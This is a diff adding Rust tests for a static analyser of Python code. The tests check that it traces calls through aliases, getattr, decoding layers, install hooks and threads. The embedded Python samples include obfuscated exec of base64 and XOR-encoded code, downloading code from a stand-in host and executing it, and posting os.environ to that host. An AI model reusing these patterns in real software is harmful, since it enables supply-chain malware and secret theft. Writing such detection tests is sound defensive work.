@@ -1,0 +1,234 @@
+//! Claims about the events that source text gives.
+
+mod common;
+
+use common::{analysis_of, calls, event, events_of};
+use venin_model::{OriginKind, Role, Trigger};
+
+#[test]
+fn a_call_is_named_through_an_import_alias() {
+    assert_eq!(calls("import os as o\no.system('echo a')"), ["os.system"]);
+}
+
+#[test]
+fn a_call_is_named_through_assignment_and_attribute_chains() {
+    let source = "import subprocess\nclass T: pass\nt = T()\nt.run = subprocess.Popen\nf = t.run\nf(['echo', 'a'])";
+    assert_eq!(calls(source), ["subprocess.Popen"]);
+}
+
+#[test]
+fn a_call_is_named_through_getattr_with_a_folded_name() {
+    assert!(calls("import os\ngetattr(os, 'sys' + 'tem')('echo a')").contains(&"os.system".to_owned()));
+}
+
+#[test]
+fn a_call_is_named_through_dunder_import() {
+    assert!(calls("__import__('o' + 's').system('echo a')").contains(&"os.system".to_owned()));
+}
+
+#[test]
+fn a_call_is_named_through_globals_and_builtins() {
+    for source in [
+        "import os\nglobals()['os'].system('echo a')",
+        "__builtins__.__dict__['__import__']('os').system('echo a')",
+        "import builtins\nvars(builtins)['__import__']('os').system('echo a')",
+        "import importlib\nimportlib.import_module('os').__dict__['system']('echo a')",
+        "import sys, os\nsys.modules['os'].system('echo a')",
+    ] {
+        assert!(calls(source).contains(&"os.system".to_owned()), "{source}: {:?}", calls(source));
+    }
+}
+
+#[test]
+fn a_star_import_binds_catalogued_names() {
+    assert_eq!(calls("from os import *\nsystem('echo a')"), ["os.system"]);
+}
+
+#[test]
+fn decoded_source_is_a_layer() {
+    let source = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBhJyk='))";
+    let event = event(source, "os.system");
+    assert_eq!(event.site.layer, 1);
+    assert_eq!(event.site.line, 2);
+    assert_eq!(event.site.layer_line, 2);
+    assert!(event.decoding.iter().any(|d| d.contains("b64decode")), "{:?}", event.decoding);
+    let exec = common::event(source, "exec");
+    let code = exec.argument(Role::Code).expect("exec has code");
+    assert!(code.origins.kinds.contains(OriginKind::Decoded));
+}
+
+#[test]
+fn layers_nest() {
+    let source = "exec(\"exec('exec(\\\\'import os; os.system(1)\\\\')')\")";
+    assert_eq!(event(source, "os.system").site.layer, 3);
+}
+
+#[test]
+fn a_character_list_is_joined_and_executed() {
+    let codes: Vec<String> = "import os;os.system('echo a')".chars().map(|c| (c as u32).to_string()).collect();
+    let source = format!("exec(''.join(map(chr, [{}])))", codes.join(","));
+    assert_eq!(event(&source, "os.system").site.layer, 1);
+    let source = format!("exec(''.join(chr(c) for c in [{}]))", codes.join(","));
+    assert_eq!(event(&source, "os.system").site.layer, 1);
+}
+
+#[test]
+fn an_xor_loop_in_a_function_is_computed() {
+    let hidden: Vec<String> = "import os;os.system('echo a')".bytes().map(|b| (b ^ 7).to_string()).collect();
+    let source = format!(
+        "def dec(data, key):\n    out = ''\n    for b in data:\n        out += chr(b ^ key)\n    return out\nexec(dec([{}], 7))",
+        hidden.join(",")
+    );
+    assert_eq!(event(&source, "os.system").site.layer, 1);
+}
+
+#[test]
+fn what_a_download_gave_reaches_exec_through_locals() {
+    let source = "import requests\nr = requests.get('http://a.example/x')\ntext = r.text\nexec(text)";
+    let exec = event(source, "exec");
+    let code = exec.argument(Role::Code).expect("exec has code");
+    assert!(code.origins.kinds.contains(OriginKind::Network));
+    let get = event(source, "requests.get");
+    assert!(code.origins.comes_from(get.id));
+}
+
+#[test]
+fn flow_goes_through_functions_attributes_and_containers() {
+    let source = "
+import os, requests
+class Box:
+    def __init__(self):
+        self.items = {}
+    def put(self, v):
+        self.items['env'] = v
+    def send(self):
+        requests.post('http://a.example', json=self.items)
+def collect():
+    return dict(os.environ)
+b = Box()
+b.put(collect())
+b.send()
+";
+    let post = event(source, "requests.post");
+    let data = post.argument(Role::Data).expect("post has data");
+    assert!(data.origins.kinds.contains(OriginKind::Env), "{:?}", data.origins);
+}
+
+#[test]
+fn flow_goes_across_files() {
+    let analysis = analysis_of(&[
+        ("pkg/__init__.py", "from .net import send\nfrom . import env\nsend(env.all_of_it())", Trigger::Import),
+        ("pkg/net.py", "import requests\ndef send(d):\n    requests.post('http://a.example', data=d)", Trigger::Run),
+        ("pkg/env.py", "import os\ndef all_of_it():\n    return str(os.environ)", Trigger::Run),
+    ]);
+    let post = analysis.events.iter().find(|e| &*e.name == "requests.post").expect("the call is reached");
+    assert_eq!(post.trigger, Trigger::Import);
+    assert!(post.argument(Role::Data).expect("data").origins.kinds.contains(OriginKind::Env));
+}
+
+#[test]
+fn a_file_handle_carries_its_path_to_write() {
+    let source = "import os\np = os.path.join(os.getenv('APPDATA'), 'x.exe')\nwith open(p, 'wb') as f:\n    f.write(b'x')";
+    let write = event(source, "open().write");
+    assert_eq!(write.text(Role::Path), Some("⟨os.getenv[APPDATA]⟩/x.exe"));
+}
+
+#[test]
+fn both_branches_are_taken_and_the_condition_is_kept() {
+    let source = "import sys, os\nif sys.platform == 'win32':\n    os.system('a')\nelse:\n    os.popen('b')";
+    let events = events_of(source);
+    let system = events.iter().find(|e| &*e.name == "os.system").expect("taken");
+    assert_eq!(&*system.conditions[0].subject, "sys.platform");
+    assert_eq!(system.conditions[0].value.as_deref(), Some("win32"));
+    assert!(events.iter().any(|e| &*e.name == "os.popen"));
+}
+
+#[test]
+fn values_of_both_branches_are_kept() {
+    let source = "import os\nif os.name == 'nt':\n    c = 'one'\nelse:\n    c = 'two'\nos.system(c)";
+    let system = event(source, "os.system");
+    let texts: Vec<&str> = system.arguments.iter().filter_map(|a| a.value.as_ref()).map(|v| &*v.text).collect();
+    assert!(texts.contains(&"one") && texts.contains(&"two"), "{texts:?}");
+}
+
+#[test]
+fn a_command_class_runs_at_install() {
+    let source = "
+from setuptools import setup
+from setuptools.command.install import install
+import os
+class Custom(install):
+    def run(self):
+        install.run(self)
+        os.system('echo a')
+setup(name='x', cmdclass={'install': Custom})
+";
+    let analysis = analysis_of(&[("setup.py", source, Trigger::Install)]);
+    let system = analysis.events.iter().find(|e| &*e.name == "os.system").expect("the command runs");
+    assert_eq!(system.trigger, Trigger::Install);
+    assert_eq!(system.function.as_deref(), Some("Custom.run"));
+}
+
+#[test]
+fn a_thread_runs_its_target() {
+    let source = "import threading, os\ndef work(c):\n    os.system(c)\nthreading.Thread(target=work, args=('echo a',)).start()";
+    let analysis = analysis_of(&[("pkg/__init__.py", source, Trigger::Import)]);
+    let system = analysis.events.iter().find(|e| &*e.name == "os.system").expect("the target runs");
+    assert_eq!(system.trigger, Trigger::Import);
+    assert_eq!(system.text(Role::Command), Some("echo a"));
+}
+
+#[test]
+fn a_function_nobody_calls_has_the_run_trigger() {
+    let source = "import os\ndef later(c):\n    os.system(c)";
+    let analysis = analysis_of(&[("pkg/__init__.py", source, Trigger::Import)]);
+    let system = analysis.events.iter().find(|e| &*e.name == "os.system").expect("the body is looked at");
+    assert_eq!(system.trigger, Trigger::Run);
+    let command = system.argument(Role::Command).expect("command");
+    assert!(command.origins.kinds.contains(OriginKind::Argument));
+}
+
+#[test]
+fn a_decorator_that_is_exec_runs_the_function_name() {
+    let source = "import os\n@(lambda f: f())\ndef go():\n    os.system('echo a')";
+    assert_eq!(calls(source), ["os.system"]);
+}
+
+#[test]
+fn python_two_gives_events() {
+    let source = "import urllib2\nprint 'x'\nexec urllib2.urlopen('http://a.example/x').read()";
+    let exec = event(source, "exec");
+    assert!(exec.argument(Role::Code).expect("code").origins.kinds.contains(OriginKind::Network));
+}
+
+#[test]
+fn code_for_another_interpreter_is_a_layer() {
+    let source = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import os; os.system('a')\"])";
+    assert_eq!(event(source, "os.system").site.layer, 1);
+}
+
+#[test]
+fn a_path_object_keeps_the_whole_path() {
+    let source = "from pathlib import Path\n(Path('/tmp/a') / 'b' / 'c.sh').write_text('x')";
+    let write = event(source, "pathlib.Path().write_text");
+    assert_eq!(write.text(Role::Path), Some("/tmp/a/b/c.sh"));
+}
+
+#[test]
+fn a_written_file_is_known_when_it_is_read_again() {
+    let source = "open('/tmp/p.py', 'w').write('import os; os.system(1)')\nexec(open('/tmp/p.py').read())";
+    assert_eq!(event(source, "os.system").site.layer, 1);
+}
+
+#[test]
+fn an_endless_loop_ends_within_the_budget() {
+    assert!(events_of("x = 0\nwhile True:\n    x += 1").is_empty());
+    assert!(events_of("def f(n):\n    return f(n + 1)\nf(0)").is_empty());
+    assert!(events_of("x = 'a'\nwhile True:\n    x += x").is_empty());
+}
+
+#[test]
+fn two_runs_agree() {
+    let source = "import os, requests\nfor k in ['a', 'b']:\n    requests.get('http://a.example/' + k + os.getenv(k))";
+    assert_eq!(events_of(source), events_of(source));
+}
